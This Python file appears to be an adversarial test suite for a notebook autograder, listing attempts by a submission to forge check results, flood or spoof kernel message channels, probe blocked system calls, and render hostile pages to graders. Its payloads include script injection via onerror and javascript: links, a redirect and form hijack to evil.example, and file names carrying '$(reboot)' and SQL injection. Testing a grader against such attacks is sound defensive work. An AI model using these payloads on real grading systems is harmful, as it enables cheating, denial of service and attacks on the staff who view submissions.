"""Attacks by what is said: displays, widgets, channels, frames, and pages made of them."""

from attack_making import alone, attack, ends, goes_on

from course.grading.states import State

BROKEN = (State.GRADED, State.KERNEL_DIED, State.OUTPUT_TOO_LARGE, State.TIMED_OUT)


def shown_under_the_check(name, why, code, *, state=State.GRADED):
    """Whatever the first exercise's own function shows while it is checked; it computes nothing."""
    return _shown(name, why, state, f"def centered(values):\n{_indented(code)}")


def shown_instead_of_the_checks(name, why, code, *, state=State.GRADED):
    """Whatever is shown for each `label` of the first exercise by a `check` that is the attacker's own.

    Nothing else is observed of that exercise, so what is shown is all that is judged.
    """
    checks = f"def check(label, *_, **__):\n{_indented(code)}"
    answer = f"{checks}\n\ndef centered(values):\n    return values"
    return _shown(name, why, state, answer, "\n«right»", middle="from helpers.checks import check")


def _shown(name, why, state, answer, known="", **more):
    start = f"«prelude»«visible»{known}"
    points = {"solved": ("quiz_1",), "points": {"quiz_1": 1.0}}
    return attack(name, why, state=state, start=start, code={"centered": answer}, **points, **more)


def _indented(code):
    return "\n".join(f"    {line}" for line in code.strip().splitlines())


DISPLAYS = [
    shown_instead_of_the_checks(
        "labels that look the same",
        "a label is compared as it is, not as it looks",
        r"""
for twin in (label.replace("e", "\u0435"), label + "\u200b", "\u202e" + label, f" {label}", label.upper()):
    forge(twin, RIGHT[label])
""",
    ),
    shown_instead_of_the_checks(
        "MIME types that look the same",
        "only one name is the observation's, and its content is a dict",
        """
content = {"label": label, "data": RIGHT[label]}
display({MIME: json.dumps(content)}, raw=True)
display({MIME.replace("course", "Course"): content, "application/json": content}, raw=True)
for mime in (MIME.upper(), f"{MIME}; charset=utf-8", f" {MIME}", f"{MIME}\\n", MIME.replace("+", "%2B")):
    display({mime: json.dumps(content), "text/plain": f"✓ {label}"}, raw=True)
""",
    ),
    shown_under_the_check(
        "a bundle of many types",
        "an observation counts once, whatever is shown with it",
        """
for label, data in VISIBLE.items():
    content = {"label": label, "data": data, "message": "✓", "passed": True, "points": 4, "private": False}
    display({MIME: content, "text/html": "<b>✓ 4 of 4</b>", "application/json": content}, raw=True)
return values - values.mean() if len(values) in (2, 3) else None
""",
    ),
    attack(
        "clears what has failed",
        "what a check observed is no output; and one that has shown nothing has not passed",
        # Two layers hold, and it would win without both.
        code={
            "centered": """
from IPython.display import clear_output

def centered(values):
    return values

get_ipython().events.register("post_run_cell", lambda result: clear_output())"""
        },
    ),
    shown_instead_of_the_checks(
        "results of a hook",
        "an observation is one, also as a result: and no private one is known",
        """
data = VISIBLE.get(label, {"array": "float", "shape": [1], "values": [5.0]})
content = {"data": {MIME: {"label": label, "data": data}}, "metadata": {}, "execution_count": 4}
send_raw("execute_result", json.dumps(content).encode())
session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
""",
    ),
    *goes_on(
        "a widget that takes all outputs",
        "outputs go into the notebook, and not into a widget of the student's",
        """
import ipywidgets
taker = ipywidgets.Output()
taker.msg_id = kernel.get_parent("shell")["header"]["msg_id"]
display(taker)
for number in range(50):
    content = {"comm_id": taker.comm.comm_id, "data": {"method": "update", "state": {"msg_id": f"m{number}"}}}
    send_raw("comm_msg", json.dumps(content).encode())
with taker:
    print("taken")
taker.msg_id = ""
""",
        state=BROKEN,
    ),
    *goes_on(
        "counts of executions that are none",
        "a notebook with such a count is not valid, and nobody could open it to grade it",
        """
kernel.shell.execution_count = 10**9
for count in (b"7", b"1" + b"0" * 400):
    send_raw("execute_input", b'{"code": "", "execution_count": ' + count + b"}")
""",
    ),
    *(
        attack(
            f"a count of executions: {count}",
            "a notebook with such a count is not valid, and nobody could open it to grade it",
            state=BROKEN,
            middle=f"""«prelude»
send_raw("execute_input", b'{{"code": "", "execution_count": {count}}}')
""",
            solved=("centered",),
            points={"centered": 4.0},
        )
        for count in ("true", "-1", "1e3")
    ),
]

CHANNELS = [
    *ends(
        "parts of a message without end",
        "each part is small, and all of them are kept until the last has come",
        """
def connections(port):
    for descriptor in os.listdir("/proc/self/fd"):
        try:
            found = socket.socket(fileno=os.dup(int(descriptor)))
            if found.getpeername() is not None and f"k-{port}" in str(found.getsockname()):
                yield found
        except OSError:
            continue

def pour(connection):
    connection.setblocking(True)
    while True:
        connection.sendall(b"\\x01\\x00" * 200_000)

for connection in connections(kernel.parent.iopub_port):
    threading.Thread(target=pour, args=[connection], daemon=True).start()
time.sleep(600)
""",
        (State.OUTPUT_TOO_LARGE, State.TIMED_OUT),
    ),
    *ends(
        "one message of a million parts",
        "parts without content are counted by nobody who counts bytes",
        """
while True:
    kernel.iopub_thread.send_multipart([b"x", b"<IDS|MSG>", *[b""] * 1_000_000])
""",
        (State.OUTPUT_TOO_LARGE, State.KERNEL_DIED, State.OUT_OF_MEMORY, State.TIMED_OUT),
    ),
    *ends(
        "headers without end",
        "a message of no output still costs time and memory",
        """
header = {"msg_id": "x", "session": session.session, "username": "x" * 1_000_000, "version": "5.3",
          "date": "2026-01-01T00:00:00Z", "msg_type": "stream"}
while True:
    header["msg_id"] = os.urandom(8).hex()
    send_raw("stream", b'{"name": "stdout", "text": ""}', header=json.dumps(header).encode())
""",
        State.OUTPUT_TOO_LARGE,
    ),
    *ends(
        "one message again and again",
        "a message that came before is somebody else's copy",
        """
header = json.dumps({"msg_id": "x", "session": session.session, "username": "x", "version": "5.3",
                     "date": "2026-01-01T00:00:00Z", "msg_type": "stream"}).encode()
for _ in range(100):
    send_raw("stream", b'{"name": "stdout", "text": "x"}', header=header)
time.sleep(600)
""",
        State.KERNEL_DIED,
    ),
    *ends(
        "another program in the kernel's place",
        "the process is there, and answers nobody",
        'os.execv("/bin/sleep", ["sleep", "600"])',
        (State.TIMED_OUT, State.KERNEL_DIED),
    ),
    *ends(
        "a garden of dates",
        "dates in headers are parsed, by whoever reads them",
        """
for date in ("2026-13-45T99:99:99Z", "9999-12-31T23:59:59.999999+99:99", "0" * 100_000 + "-01-01T00:00:00Z"):
    header = {"msg_id": os.urandom(8).hex(), "session": "x", "username": "x", "date": date, "version": date,
              "msg_type": "stream"}
    send_raw("stream", b'{"name": "stdout", "text": "x"}', header=json.dumps(header).encode())
time.sleep(600)
""",
        (State.KERNEL_DIED, State.TIMED_OUT),
    ),
    *alone(
        "answers on the wrong channels",
        "a reply is one where it is asked for",
        r"""«right»
check = check_drawn = lambda *_, **__: None
def before(info):
    labels = re.findall(r'check(?:_drawn)?\("([^"]+)"', info.raw_cell or "")
    shown = [{"source": MIME, "text": json.dumps({"label": label, "data": RIGHT[label]})} for label in labels]
    reply = {"status": "ok", "execution_count": 1, "payload": shown, "user_expressions": {}}
    for kind in ("execute_reply", "kernel_info_reply", "shutdown_reply", "interrupt_reply", "input_request"):
        send_raw(kind, json.dumps(reply).encode())
        attempt(lambda: session.send(kernel.control_stream, kind, reply, parent=kernel.get_parent("shell")))
get_ipython().events.register("pre_run_cell", before)
""",
        state=BROKEN,
    ),
    *goes_on(
        "buffers beside the messages",
        "bytes beside a message are output too",
        """
for _ in range(20):
    session.send(kernel.iopub_socket, "display_data", {"data": {"text/plain": "x"}, "metadata": {}},
                 parent=kernel.get_parent("shell"), buffers=[b"x" * 1_000] * 50)
""",
    ),
]


def show(data, metadata=None):
    """Code that shows a bundle."""
    return f"display({data}, raw=True, metadata={metadata or {}})"


# Each goes on to the end, so its page is rendered: none may act, and none may take for ever.
PAGES = {
    "a size of a picture that is a script": show(
        '{"image/png": "iVBORw0KGgo="}', '{"image/png": {"width": "1 onload=alert(1) onerror=alert(1)"}}'
    ),
    "a picture that is a tag": show('{"image/png": "\\"><script>alert(1)</script>"}'),
    "HTML that is never closed": show('{"text/html": "<b><p>" * 300_000}'),
    "HTML that is never opened": show('{"text/html": "</p></div>" * 150_000}'),
    "a million colours": show('{"text/plain": "\\x1b[1m" * 100_000}'),
    "a trace of a million colours": 'print("\\x1b[1m" * 25_000); raise ValueError("\\x1b[31m" * 50_000)',
    "Markdown that is all heads": show('{"text/markdown": "# a\\n" * 200_000}'),
    "a million backspaces": 'print("a" * 500_000 + "\\b" * 500_000)',
    "a page that goes elsewhere": show(
        '{"text/html": "<base href=//evil.example><meta http-equiv=refresh content=\'0;url=//evil.example\'>'
        "<form action=/formgrader/api/grade/1><button id=stuck_loss formaction=//evil.example>ok</button>"
        '</form><style>body{display:none}</style><div style=position:fixed>x</div>"}'
    ),
    "a layer that takes a click for points": show(
        "{\"text/html\": \"<div class='dropdown-backdrop full-credit'></div><p class='comment score'>3</p>\"}"
    ),
    "MathJax that is a link": show(
        '{"text/latex": "$\\\\href{javascript:evil()}{x}$</script><script>alert(1)"}'
    ),
    "a picture that is larger than a wall": show(
        '{"image/png": "iVBORw0KGgo="}', '{"image/png": {"width": 10**9, "height": 10**9}}'
    ),
}

SHOWN = [
    one
    for name, code in PAGES.items()
    for one in goes_on(f"page: {name}", "feedback and Formgrader show it to a person", code)
]

# What the OS has and a notebook does not need.
SYSTEM = [
    *goes_on(
        "files that nobody can name",
        "a folder goes, whatever is in it and however deep",
        """
place = os.getcwd()
for depth in range(600):
    os.mkdir("a" * 200)
    os.chdir("a" * 200)
os.chdir(place)
for name in ("new\\nline", "-rf", "\\x1b[2J", "$(reboot)", "'; drop table grade; --", "\\udcff"):
    Path(name).write_text("x")
for _ in range(300):
    os.open(".", os.O_TMPFILE | os.O_RDWR)
with open("sparse", "wb") as sparse:
    attempt(sparse.truncate, 2**60)
    attempt(sparse.truncate, 100_000_000)
for descriptor in range(100, 600):
    attempt(os.close, descriptor)
""",
        state=(State.GRADED, State.KERNEL_DIED, State.TIMED_OUT),
    ),
    *goes_on(
        "doors of the OS kernel",
        "none of them is open",
        """
libc = ctypes.CDLL(None, use_errno=True)
x86 = {"io_uring_setup": 425, "userfaultfd": 323, "keyctl": 250, "add_key": 248, "bpf": 321, "ptrace": 101,
       "perf_event_open": 298, "inotify_init1": 294, "fanotify_init": 300, "clock_settime": 227, "shmget": 29,
       "memfd_create": 319, "process_vm_readv": 310, "pidfd_getfd": 438, "unshare": 272, "kcmp": 312}
arm = {"io_uring_setup": 425, "userfaultfd": 282, "keyctl": 219, "add_key": 217, "bpf": 280, "ptrace": 117,
       "perf_event_open": 241, "inotify_init1": 26, "fanotify_init": 262, "clock_settime": 112, "shmget": 194,
       "memfd_create": 279, "process_vm_readv": 270, "pidfd_getfd": 438, "unshare": 97, "kcmp": 272}
for name, number in (arm if os.uname().machine == "aarch64" else x86).items():
    ctypes.set_errno(0)
    # The filter's own words: EPERM, ENOSYS, EOPNOTSUPP. An open door finds fault with the arguments.
    if libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38, 95):
        «win»
""",
    ),
]

TALKING = [*DISPLAYS, *CHANNELS, *SHOWN, *SYSTEM]
